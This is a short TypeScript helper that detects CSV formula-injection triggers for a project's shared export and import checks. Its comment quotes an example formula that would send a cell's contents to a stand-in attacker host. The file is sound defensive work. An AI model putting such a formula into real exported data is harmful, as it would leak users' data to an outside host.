// CSV ("formula") injection: a spreadsheet opening a CSV runs any cell that starts like a
// formula, e.g. =HYPERLINK("http://evil/?"&A1,"Click"). OWASP lists the trigger characters:
// = + - @, tab (0x09) and carriage return (0x0D). Export neutralises such cells; import
// rejects them (see csv-import.ts). One definition serves both so they cannot drift apart.

const TRIGGERS = new Set(["=", "+", "-", "@", "\t", "\r"]);

/**
 * True when a spreadsheet could read the text as a formula: it starts with a trigger, or with
 * other whitespace followed by one (" =1+1"; some programs skip leading spaces).
 */
export function looksLikeFormula(value: string): boolean {
  const first = value[0];
  if (first === undefined) return false;
  if (TRIGGERS.has(first)) return true;
  const firstVisible = value.trimStart()[0];
  return firstVisible !== undefined && TRIGGERS.has(firstVisible);
}
